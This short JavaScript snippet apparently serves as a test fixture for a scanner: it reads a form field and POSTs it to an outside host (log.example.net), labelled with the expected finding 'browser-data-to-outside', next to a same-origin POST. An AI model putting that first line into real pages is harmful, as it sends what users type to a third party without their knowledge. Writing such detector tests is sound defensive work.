// What is typed or kept in the browser leaves for an outside service.
const memo = document.getElementById('memo').value;
fetch('https://log.example.net/keep', { method: 'POST', body: memo }); // expect: browser-data-to-outside
fetch('/k/v1/record.json', { method: 'POST', body: memo });
